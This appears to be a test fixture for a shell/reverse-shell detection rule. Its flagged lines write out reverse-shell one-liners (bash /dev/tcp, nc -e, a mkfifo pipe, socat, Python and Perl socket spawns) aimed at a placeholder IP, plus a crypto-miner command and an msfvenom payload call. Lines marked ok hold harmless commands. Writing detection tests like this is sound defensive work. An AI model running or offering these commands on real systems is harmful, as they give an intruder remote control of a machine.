#!/bin/bash
# ruleid: shell/reverse-shell
bash -i >& /dev/tcp/203.0.113.5/4444 0>&1
# ruleid: shell/reverse-shell
nc -e /bin/sh 203.0.113.5 4444
# ruleid: shell/reverse-shell
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f
# ruleid: shell/reverse-shell
ncat 203.0.113.5 4444 -e /bin/bash
# ruleid: shell/reverse-shell
socat exec:bash,pty tcp:203.0.113.5:4444
# ruleid: shell/reverse-shell
python3 -c "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.5',1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')"
# ruleid: shell/reverse-shell
perl -e 'use Socket;socket(S,2,1,6);connect(S,0);exec("/bin/sh -i")' 
# ruleid: shell/reverse-shell
xmrig -o stratum+tcp://pool.example:3333
# ruleid: shell/reverse-shell
openssl s_client -quiet -connect x.example:443 | sh
# ruleid: shell/reverse-shell
msfvenom -p linux/x64/shell_reverse_tcp

# ok: shell/reverse-shell
nc -zv localhost 5432
# ok: shell/reverse-shell
nc -l 8080
# ok: shell/reverse-shell
socat TCP-LISTEN:80,bind=127.0.0.1 TCP:localhost:8080
# ok: shell/reverse-shell
echo > /dev/tcp/localhost/80
# ok: shell/reverse-shell
openssl s_client -connect example.com:443 < /dev/null
# ok: shell/reverse-shell
ssh me@host.example
# ok: shell/reverse-shell
mkfifo pipe
# ok: shell/reverse-shell
bash -i script.sh
# ok: shell/reverse-shell
python3 -m http.server
# ok: shell/reverse-shell
grep -rn stratum+tcp:// .
